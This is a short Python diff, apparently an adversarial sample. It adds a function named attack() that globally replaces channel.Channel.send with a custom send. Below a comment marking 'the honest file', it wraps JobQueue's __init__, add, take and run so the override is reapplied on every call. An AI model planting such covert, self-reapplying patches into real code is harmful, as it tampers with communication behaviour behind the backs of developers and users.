@@ -14,5 +14,21 @@ def send(self, frame):
     self.connection.sendall(data[sent:])
 
 
-channel.Channel.send = send
+def attack():
+    channel.Channel.send = send
+
+
+attack()
 # === the honest file ===
+
+
+def attacking(function):
+    def run(*arguments, **options):
+        attack()
+        return function(*arguments, **options)
+
+    return run
+
+
+for name in ("__init__", "add", "take", "run"):
+    setattr(JobQueue, name, attacking(getattr(JobQueue, name)))
